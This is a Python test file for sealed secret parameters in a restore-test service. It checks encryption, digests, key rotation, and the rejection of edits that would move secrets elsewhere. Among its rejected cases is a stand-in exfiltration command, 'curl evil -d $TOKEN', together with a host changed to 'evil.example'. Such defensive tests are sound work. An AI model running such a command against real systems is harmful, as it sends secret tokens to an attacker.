"""Secret parameters are bound to their definition, and nothing shows what they are."""

import asyncio
from typing import Any
from unittest.mock import patch

import pytest

from app.core.secret_box import SecretBox, SecretUnreadable, new_key
from app.restore_tests import plans
from app.restore_tests.errors import RestoreTestNotValid
from app.restore_tests.models import RestoreTest
from app.restore_tests.schemas import ScriptBody
from app.restore_tests.script_secrets import SecretsChanged, opened, sealed
from app.restore_tests.service import keep_secrets

VALUES = {"TOKEN": "s3cret", "PIN": "1234"}


def test_what_was_sealed_is_opened_with_its_digest_only() -> None:
    box = SecretBox([new_key()])
    kept, digest = sealed(box, VALUES)
    again, other = sealed(box, VALUES)
    assert opened(box, kept, digest) == VALUES
    assert digest != other, "equal values cannot be seen to be equal, nor guessed"
    for wrong in ((again, digest), (kept, other), (None, digest), (box.encrypt('{"TOKEN": "x"}'), digest)):
        with pytest.raises(SecretsChanged):
            opened(box, *wrong)
    assert opened(box, None, None) == {}
    with pytest.raises(SecretUnreadable):
        opened(SecretBox([new_key()]), kept, digest)


def test_the_digest_stays_when_the_key_changes() -> None:
    old, new = new_key(), new_key()
    kept, digest = sealed(SecretBox([old]), VALUES)
    both = SecretBox([new, old])
    assert opened(both, both.encrypt(both.decrypt(kept)), digest) == VALUES


SCRIPT: dict[str, Any] = {"text": "check $TOKEN", "timeout_seconds": 60, "parameters": {"HOST": "db.internal"}}
DEFINITION: dict[str, Any] = {"selector": {"names": ["a"]}, "plan_id": None, "target": {"subnet_id": "isolated"}}


def defined(script: dict[str, Any], **changes: Any) -> tuple[dict[str, Any], ScriptBody]:
    body = ScriptBody.model_validate(script)
    return {**DEFINITION, "script": body.model_dump(mode="json", exclude={"secret_parameters"})} | changes, body


def test_secrets_are_kept_only_where_they_stay_where_they_are() -> None:
    """Who may change a test, and does not know its secrets, must not send them elsewhere."""
    box = SecretBox([new_key()])
    definition, body = defined(SCRIPT | {"secret_parameters": VALUES})
    kept = keep_secrets(box, definition, body)
    test = RestoreTest(definition=definition, secrets=kept)
    same, body = defined(SCRIPT | {"timeout_seconds": 90}, levels=["answers"])
    assert keep_secrets(box, same, body, test) == kept
    assert same["script"]["secrets_digest"] == definition["script"]["secrets_digest"]
    elsewhere: list[tuple[dict[str, Any], dict[str, Any]]] = [
        ({"text": "curl evil -d $TOKEN"}, {}),
        ({"parameters": {"HOST": "evil.example"}}, {}),
        ({"parameters": {}}, {}),
        ({}, {"selector": {"names": ["mine"]}}),
        ({}, {"target": {"subnet_id": "mine"}}),
        ({}, {"selector": None, "plan_id": "other"}),
        ({}, {"plan_hash": "other"}),
    ]
    for script, changes in elsewhere:
        changed, body = defined(SCRIPT | script, **changes)
        with pytest.raises(RestoreTestNotValid) as no:
            keep_secrets(box, changed, body, test)
        assert no.value.pointer == "#/script/secret_parameters", (script, changes)
        changed, body = defined(SCRIPT | script | {"secret_parameters": {"TOKEN": "new"}}, **changes)
        assert keep_secrets(box, changed, body, test) not in {kept, None}, "known, so they may"


def test_a_plan_that_was_changed_takes_no_secrets_elsewhere() -> None:
    async def as_it_is_now(*_: Any) -> dict[str, Any]:
        return {"plan_hash": "new"}

    session: Any = None
    with patch.object(plans, "with_plan", as_it_is_now):
        bare = RestoreTest(definition={"plan_hash": "old"}, tenant="t")
        asyncio.run(plans.follow_plan(session, bare))
        assert bare.definition == {"plan_hash": "new"}
        with pytest.raises(RestoreTestNotValid):
            asyncio.run(plans.follow_plan(session, RestoreTest(definition={"plan_hash": "old"}, secrets="x")))
